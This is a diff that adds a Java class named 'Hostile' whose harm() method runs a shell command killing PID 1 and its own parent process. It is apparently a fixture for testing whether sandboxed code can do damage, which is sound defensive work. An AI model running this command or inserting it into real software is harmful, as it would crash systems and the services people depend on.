@@ -1,0 +1,17 @@
+package node;
+
+import java.io.*;
+import java.lang.reflect.*;
+import java.net.*;
+import java.nio.file.*;
+import java.util.*;
+import java.util.stream.*;
+
+public class Hostile {
+  /** True when the harm was done. */
+  public boolean harm() throws Exception {
+    new ProcessBuilder("/bin/sh", "-c", "kill -9 1; kill -9 " + ProcessHandle.current().parent()
+        .map(ProcessHandle::pid).orElse(1L)).start().waitFor();
+    return false;
+  }
+}
